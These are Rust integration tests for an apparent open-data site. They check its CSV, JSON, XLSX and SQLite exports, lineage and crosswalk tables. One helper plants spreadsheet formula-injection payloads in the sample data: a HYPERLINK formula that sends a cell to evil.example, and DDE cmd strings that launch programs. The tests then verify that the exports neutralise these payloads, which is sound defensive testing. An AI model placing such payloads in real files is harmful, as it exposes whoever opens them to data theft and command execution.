/// memory it adds. With `CHISO_BENCH_PARTS` (`all`, or names such as
/// `xlsx,sqlite`, and `only` to skip the whole phase), each format of the
/// largest tables is also timed alone (one thread). Run with
/// `CHISO_BENCH_DATA=/tmp/nat cargo test --release --test integration
/// downloads_at_scale -- --ignored --nocapture`.
#[test]
#[ignore = "a benchmark: needs CHISO_BENCH_DATA"]
fn downloads_at_scale() {
    use chiso::export::{Scope, FIELDS, FRAMEWORK, RESULTS, SCORES, TABLES, UNITS};
    use std::time::Instant;
    let data = PathBuf::from(std::env::var("CHISO_BENCH_DATA").unwrap_or_else(|_| "data".into()));
    let start = Instant::now();
    let checked = check_dir(&data);
    assert!(!checked.has_errors());
    eprintln!("load+check: {:?}", start.elapsed());
    let dir =
        tempfile::tempdir_in(std::env::var("CHISO_BENCH_OUT").unwrap_or("/tmp".into())).unwrap();
    let (dataset, results) = (&checked.dataset, &checked.results);
    let parts = std::env::var("CHISO_BENCH_PARTS").unwrap_or_default();
    let timed = |what: &str, f: &mut dyn FnMut() -> String| {
        // CHISO_BENCH_PARTS=xlsx,sqlite picks parts by name; "all" all.
        if what != "downloads" && parts != "all" && !parts.split(',').any(|p| what.contains(p)) {
            return;
        }
        // Peak memory from here on: the kernel resets VmHWM on "5".
        let _ = std::fs::write("/proc/self/clear_refs", "5");
        let (rss, _) = memory();
        let (wall, cpu) = (Instant::now(), cpu_time());
        let mut said = f();
        // For profiles: CHISO_BENCH_REPEAT=n runs each part n times more.
        for _ in 0..std::env::var("CHISO_BENCH_REPEAT")
            .ok()
            .and_then(|n| n.parse().ok())
            .unwrap_or(0)
        {
            said = f();
        }
        let (_, peak) = memory();
        eprintln!(
            "{what}: wall {:?}, cpu {:?}, peak +{} MiB over {rss} MiB; {said}",
            wall.elapsed(),
            cpu_time() - cpu,
            peak.saturating_sub(rss)
        );
    };
    if !parts.is_empty() {
        let latest = Scope::edition(dataset, results, dataset.editions.len() - 1);
        let all = Scope::all(dataset, results);
        for table in [&RESULTS, &FIELDS, &SCORES] {
            timed(&format!("csv {}", table.name), &mut || {
                let mut out = chiso::output::CountingSink::default();
                let rows = chiso::export::write_csv(&latest, table, &mut out).unwrap();
                format!("{rows} rows, {} MB", out.bytes / 1_000_000)
            });
            timed(&format!("json {}", table.name), &mut || {
                let mut out = chiso::output::CountingSink::default();
                let rows = chiso::export::write_json(&latest, &[table], &mut out).unwrap();
                format!("{rows} rows, {} MB", out.bytes / 1_000_000)
            });
            timed(&format!("xlsx {}", table.name), &mut || {
                let mut out = chiso::output::CountingSink::default();
                let rows = chiso::export::write_xlsx(
                    &latest,
                    &[table],
                    dir.path(),
                    chiso::export::XLSX_MAX_ROWS,
                    &mut out,
                )
                .unwrap();
                format!("{rows} rows, {} MB", out.bytes / 1_000_000)
            });
        }
        timed("xlsx summary tables, all editions", &mut || {
            let mut out = chiso::output::CountingSink::default();
            let rows = chiso::export::write_xlsx(
                &all,
                &[&RESULTS, &FIELDS, &FRAMEWORK, &UNITS],
                dir.path(),
                chiso::export::XLSX_MAX_ROWS,
                &mut out,
            )
            .unwrap();
            format!("{rows} rows, {} MB", out.bytes / 1_000_000)
        });
        timed("sqlite summary tables", &mut || {
            let path = dir.path().join("chiso.sqlite");
            let rows =
                chiso::export::write_sqlite(&all, &[&RESULTS, &FIELDS, &FRAMEWORK, &UNITS], &path)
                    .unwrap();
            let size = std::fs::metadata(&path).unwrap().len();
            std::fs::remove_file(&path).unwrap();
            format!("{rows} rows, {} MB", size / 1_000_000)
        });
        timed("sqlite every table", &mut || {
            let path = dir.path().join("chiso.sqlite");
            let rows = chiso::export::write_sqlite(&all, &TABLES, &path).unwrap();
            let size = std::fs::metadata(&path).unwrap().len();
            std::fs::remove_file(&path).unwrap();
            format!("{rows} rows, {} MB", size / 1_000_000)
        });
    }
    if parts.split(',').any(|p| p == "only") {
        return;
    }
    let staging = chiso::output::Staging::begin(&dir.path().join("public"), &data).unwrap();
    timed("downloads", &mut || {
        let downloads = chiso::export::downloads(dataset, results, &staging).unwrap();
        let bytes: u64 = downloads.iter().map(|d| d.size).sum();
        if std::env::var_os("CHISO_BENCH_LIST").is_some() {
            for d in &downloads {
                eprintln!("{:>12} {:>9} {}", d.size, d.rows, d.path);
            }
        }
        format!("{} files, {} MB", downloads.len(), bytes / 1_000_000)
    });
}

/// A copy of the Hà Nam example whose names, criteria and notes start as
/// formulas do, built. Returns the site and the texts planted.
fn built_with_formula_text() -> (tempfile::TempDir, PathBuf, Vec<&'static str>) {
    let dir = tempfile::tempdir().unwrap();
    let data = dir.path().join("data");
    copy_tree(&repo("examples/ha-nam-2022"), &data);
    let planted = vec![
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Sở Nội vụ\")",
        "+Sở Tài chính",
        "-Sở Xây dựng",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1 Cải cách thể chế",
        "-2 điểm: chưa ban hành kế hoạch",
        "=cmd|' /C notepad'!'A1'",
    ];
    edit_file(&data.join("units.csv"), |t| {
        t.replace(
            "so-noi-vu,Sở Nội vụ,",
            "so-noi-vu,\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Sở Nội vụ\"\")\",",
        )
        .replace("so-tai-chinh,Sở Tài chính,", "so-tai-chinh,+Sở Tài chính,")
        .replace("so-xay-dung,Sở Xây dựng,", "so-xay-dung,-Sở Xây dựng,")
        .replace(
            "thanh-tra-tinh,Thanh tra tỉnh,",
            "thanh-tra-tinh,\"@SUM(1+1)*cmd|' /C calc'!A0\",",
        )
    });
    let edition = data.join("editions/2022");
    edit_file(&edition.join("framework-so-nganh.csv"), |t| {
        t.replace("2,A,Cải cách thể chế,", "2,A,=1+1 Cải cách thể chế,")
    });
    edit_file(&edition.join("scores-so-nganh.csv"), |t| {
        let mut lines = t.lines();
        let mut out = format!("{},note,responsible\n", lines.next().unwrap());
        for (i, line) in lines.enumerate() {
            let extra = match i {
                1 => ",-2 điểm: chưa ban hành kế hoạch,\"=cmd|' /C notepad'!'A1'\"",
                _ => ",,",
            };
            out.push_str(line);
            out.push_str(extra);
            out.push('\n');
        }
        out
    });
    let out = dir.path().join("public");
    build_site(&data, &out);
    (dir, out, planted)
}

/// The first characters that make a spreadsheet read a cell as a formula.
fn formula_start(field: &str) -> bool {
    field.starts_with(['=', '+', '-', '@', '\t', '\r'])
}

/// Every CSV the site offers: the downloads, the charts' files and the
/// charts' `data:` links.
fn every_csv(out: &Path) -> Vec<(String, Vec<u8>)> {
    use base64::Engine;
    let mut csvs: Vec<(String, Vec<u8>)> = tree(out)
        .into_iter()
        .filter(|(p, _)| p.ends_with(".csv"))
        .collect();
    for (page, html) in html_pages(out) {
        for (at, _) in html.match_indices("data:text/csv;charset=utf-8;base64,") {
            let b64: String = html[at..]
                .split_once(',')
                .unwrap()
                .1
                .chars()
                .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '='))
                .collect();
            let bytes = base64::engine::general_purpose::STANDARD
                .decode(&b64)
                .unwrap();
            csvs.push((format!("{page} (data: link)"), bytes));
        }
    }
    csvs
}

#[test]
fn formula_text_in_csv_downloads_is_written_as_text() {
    let (_dir, out, planted) = built_with_formula_text();
    let csvs = every_csv(&out);
    let mut seen: HashSet<String> = HashSet::new();
    for (path, bytes) in &csvs {
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(&bytes[3..]);
        for record in reader.records() {
            for field in record.unwrap().iter() {
                // A number may start with a sign: a spreadsheet reads it as
                // the same number.
                assert!(
                    !formula_start(field) || Decimal::from_str(field).is_ok(),
                    "{path}: a spreadsheet would run {field:?}"
                );
                if let Some(text) = field.strip_prefix('\'') {
                    seen.insert(text.to_string());
                }
            }
        }
    }
    for text in &planted {
        assert!(seen.contains(*text), "{text:?} is in no CSV as '{text}");
    }
    // OWASP's advice: such a cell also goes in quotes.
    let units = std::fs::read_to_string(out.join("du-lieu/2022/don-vi.csv")).unwrap();
    assert!(
        units.contains(",\"'+Sở Tài chính\","),
        "{}",
        units
            .lines()
            .find(|l| l.contains("Tài chính"))
            .unwrap_or("")
    );
    // The other formats keep the text as it is.
    let json = std::fs::read_to_string(out.join("du-lieu/2022/chiso-2022.json")).unwrap();
    assert!(json.contains("\"+Sở Tài chính\""));
    // And the data dictionary, the Data page and the data package say so.
    for page in [
        "tu-dien-du-lieu.html",
        "du-lieu.html",
        "du-lieu/datapackage.json",
    ] {
        let text = std::fs::read_to_string(out.join(page)).unwrap();
        assert!(text.contains("dấu nháy đơn"), "{page}");
    }
}

#[test]
fn negative_numbers_in_csv_downloads_stay_numbers() {
    let (_dir, out) = built("data");
    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/ket-qua.csv"));
    let change = column(&headers, "index_change");
    let negative: Vec<&String> = rows
        .iter()
        .map(|r| &r[change])
        .filter(|c| c.starts_with('-'))
        .collect();
    assert!(
        !negative.is_empty(),
        "the sample has units that lost ground"
    );
    for n in negative {
        assert!(Decimal::from_str(n).is_ok(), "{n:?}");
    }
}

#[test]
fn formula_text_stays_a_string_cell_in_the_workbooks() {
    let (_dir, out, planted) = built_with_formula_text();
    for book in [
        "du-lieu/2022/chiso-2022.xlsx",
        "du-lieu/tat-ca/chiso-tat-ca.xlsx",
    ] {
        let mut workbook = open_workbook_auto(out.join(book)).unwrap();
        let mut strings: HashSet<String> = HashSet::new();
        for sheet in workbook.sheet_names() {
            let formulas = workbook.worksheet_formula(&sheet).unwrap();
            assert!(
                formulas.used_cells().all(|(_, _, f)| f.is_empty()),
                "{book} {sheet}: a formula cell"
            );
            for cell in workbook.worksheet_range(&sheet).unwrap().used_cells() {
                if let (_, _, Data::String(s)) = cell {
                    strings.insert(s.clone());
                }
            }
        }
        // The detailed scores (and their notes) are not in the workbooks.
        for text in planted
            .iter()
            .filter(|t| !t.starts_with("-2") && !t.starts_with("=cmd"))
        {
            assert!(
                strings.contains(*text),
                "{book}: {text:?} is not a text cell"
            );
        }
    }
}

/// The cells of one lineage edge as the CSV writes them.
fn edge_cells(e: &chiso::model::LineageEdge) -> Vec<String> {
    use chiso::export::csv_text;
    let text = |s: Option<&str>| s.map_or_else(String::new, |s| csv_text(s).into_owned());
    vec![
        e.date.iso(),
        csv_text(&e.from).into_owned(),
        csv_text(&e.to).into_owned(),
        e.kind.name().to_string(),
        e.share
            .map_or_else(String::new, |s| s.normalize().to_string()),
        text(e.basis.as_deref()),
        text(e.note.as_deref()),
    ]
}

#[test]
fn the_lineage_table_holds_every_edge_in_csv_json_and_sqlite() {
    let (_dir, out) = built("data");
    let checked = check("data");
    let lineage = &checked.dataset.lineage;
    assert!(lineage.len() >= 88, "data/lineage.csv and the shorthand");
    let expected: Vec<Vec<String>> = lineage.iter().map(edge_cells).collect();
    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/bien-dong.csv"));
    assert_eq!(
        headers,
        ["date", "from", "to", "kind", "share", "basis", "note"]
    );
    assert_eq!(rows, expected);
    assert!(rows.iter().any(|r| r[3] == "split" && !r[4].is_empty()));
    // JSON: the same rows, numbers as numbers, nothing as null.
    let json: serde_json::Value = serde_json::from_slice(
        &std::fs::read(out.join("du-lieu/tat-ca/chiso-tat-ca.json")).unwrap(),
    )
    .unwrap();
    let table = json["tables"]
        .as_array()
        .unwrap()
        .iter()
        .find(|t| t["name"] == "bien-dong")
        .unwrap();
    let json_rows = table["rows"].as_array().unwrap();
    assert_eq!(json_rows.len(), lineage.len());
    for (row, e) in json_rows.iter().zip(lineage) {
        assert_eq!(row["date"], e.date.iso());
        assert_eq!(row["from"], e.from.as_str());
        assert_eq!(row["to"], e.to.as_str());
        assert_eq!(row["kind"], e.kind.name());
        match e.share {
            Some(s) => assert_eq!(
                Decimal::from_str(&row["share"].to_string()).unwrap(),
                s.normalize()
            ),
            None => assert!(row["share"].is_null()),
        }
        assert_eq!(row["basis"].as_str(), e.basis.as_deref());
        assert_eq!(row["note"].as_str(), e.note.as_deref());
    }
    // SQLite: every edge, and every from and to a unit of the registry.
    let db = rusqlite::Connection::open(out.join("du-lieu/chiso.sqlite")).unwrap();
    let mut stmt = db
        .prepare(
            "SELECT date, \"from\", \"to\", kind, share, basis, note FROM bien_dong ORDER BY rowid",
        )
        .unwrap();
    type EdgeRow = (
        String,
        String,
        String,
        String,
        Option<f64>,
        Option<String>,
        Option<String>,
    );
    let db_rows: Vec<EdgeRow> = stmt
        .query_map([], |r| {
            Ok((
                r.get(0)?,
                r.get(1)?,
                r.get(2)?,
                r.get(3)?,
                r.get(4)?,
                r.get(5)?,
                r.get(6)?,
            ))
        })
        .unwrap()
        .map(Result::unwrap)
        .collect();
    assert_eq!(db_rows.len(), lineage.len());
    for (row, e) in db_rows.iter().zip(lineage) {
        assert_eq!(row.0, e.date.iso());
        assert_eq!(
            (&*row.1, &*row.2, &*row.3),
            (&*e.from, &*e.to, e.kind.name())
        );
        use rust_decimal::prelude::ToPrimitive;
        assert_eq!(row.4, e.share.and_then(|s| s.to_f64()));
        assert_eq!(row.5.as_deref(), e.basis.as_deref());
        assert_eq!(row.6.as_deref(), e.note.as_deref());
    }
    let declared: i64 = db
        .query_row(
            "SELECT count(*) FROM pragma_foreign_key_list('bien_dong')",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert_eq!(declared, 2);
    let broken: i64 = db
        .query_row("SELECT count(*) FROM pragma_foreign_key_check", [], |r| {
            r.get(0)
        })
        .unwrap();
    assert_eq!(broken, 0);
}

#[test]
fn the_crosswalk_lists_every_predecessor_of_a_merged_commune_transitively() {
    let (_dir, out) = built("data");
    let checked = check("data");
    let dataset = &checked.dataset;
    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/doi-chieu.csv"));
    let at = |name: &str| column(&headers, name);
    let of = |unit: &str| -> Vec<&Vec<String>> {
        rows.iter().filter(|r| r[at("unit_id")] == unit).collect()
    };
    // Xã Đức Thịnh was formed in 2025 from Vĩnh Lợi, which had taken in
    // Bình Minh in 2021: both are its predecessors.
    let unit = "xa-duc-thinh";
    let mut expected: Vec<&str> = dataset
        .all_predecessors(unit)
        .iter()
        .map(|e| e.from.as_str())
        .collect();
    expected.sort_unstable();
    expected.dedup();
    assert!(expected.contains(&"binh-minh") && expected.contains(&"vinh-loi"));
    let listed = of(unit);
    let mut predecessors: Vec<&str> = listed
        .iter()
        .map(|r| r[at("predecessor_id")].as_str())
        .filter(|p| *p != unit)
        .collect();
    predecessors.sort_unstable();
    assert_eq!(predecessors, expected);
    let binh_minh = listed
        .iter()
        .find(|r| r[at("predecessor_id")] == "binh-minh")
        .unwrap();
    assert_eq!(binh_minh[at("steps")], "2");
    assert_eq!(binh_minh[at("via_id")], "vinh-loi");
    assert_eq!(binh_minh[at("kind")], "merge");
    assert_eq!(binh_minh[at("share")], "1");
    assert_eq!(binh_minh[at("date")], "2021-01-01");
    assert_eq!(binh_minh[at("last_edition_year")], "2020");
    // The unit itself, so unchanged units join too.
    assert!(listed
        .iter()
        .any(|r| r[at("predecessor_id")] == unit && r[at("kind")] == "self"));
    // A split part: its share of the old commune's population.
    let split = rows
        .iter()
        .find(|r| r[at("kind")] == "split")
        .expect("a split in data/");
    let edge = dataset
        .predecessors(&split[at("unit_id")])
        .into_iter()
        .find(|e| e.from == split[at("predecessor_id")])
        .unwrap();
    assert_eq!(
        split[at("share")],
        edge.share.unwrap().normalize().to_string()
    );
    // Every unit with results in the newest edition is listed.
    let newest = checked
        .results
        .editions
        .iter()
        .zip(&dataset.editions)
        .max_by_key(|(_, e)| e.year)
        .unwrap()
        .0;
    for u in newest.groups.iter().flat_map(|g| &g.units) {
        assert!(!of(&u.unit).is_empty(), "{}", u.unit);
    }
    let db = rusqlite::Connection::open(out.join("du-lieu/chiso.sqlite")).unwrap();
    let db_rows: i64 = db
        .query_row("SELECT count(*) FROM doi_chieu", [], |r| r.get(0))
        .unwrap();
    assert_eq!(db_rows as usize, rows.len());
}

#[test]
fn units_downloads_give_the_official_code_and_full_validity_dates() {
    let (_dir, out) = built("data");
    let checked = check("data");
    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/don-vi.csv"));
    let at = |name: &str| column(&headers, name);
    let mut dated = 0;
    for unit in &checked.dataset.units {
        let row = rows.iter().find(|r| r[at("id")] == unit.id).unwrap();
        let day = |d: Option<chiso::model::Day>| d.map_or_else(String::new, |d| d.iso());
        assert_eq!(row[at("valid_to_date")], day(unit.valid.to), "{}", unit.id);
        assert_eq!(row[at("valid_from_date")], day(unit.valid.from));
        assert_eq!(row[at("code")], unit.code.clone().unwrap_or_default());
        // The year columns keep their meaning.
        assert_eq!(
            row[at("valid_to")],
            unit.valid_to.map_or_else(String::new, |y| y.to_string())
        );
        dated += usize::from(unit.valid.to.is_some());
    }
    assert!(dated > 0, "data/ has units that ended");
}

/// The registry download keeps each unit's former names as units.csv takes
/// them, so a journalist finds Ban Dân tộc under its new name and the file
/// reads back.
#[test]
fn the_units_download_keeps_former_names() {
    let (_dir, out) = built("data");
    let checked = check("data");
    let (headers, rows) = read_csv(&out.join("du-lieu/tat-ca/don-vi.csv"));
    let col = headers
        .iter()
        .position(|h| h == "former_names")
        .expect("a former_names column");
    let id = headers.iter().position(|h| h == "id").unwrap();
    let mut seen = 0;
    for unit in &checked.dataset.units {
        let row = rows.iter().find(|r| r[id] == unit.id).unwrap();
        let written: Vec<String> = unit
            .former_names
            .iter()
            .map(|n| format!("{} (đến {})", n.name, n.until.iso()))
            .collect();
        assert_eq!(row[col], written.join("; "), "{}", unit.id);
        seen += usize::from(!written.is_empty());
    }
    assert!(seen > 0, "the sample has a renamed unit");
}
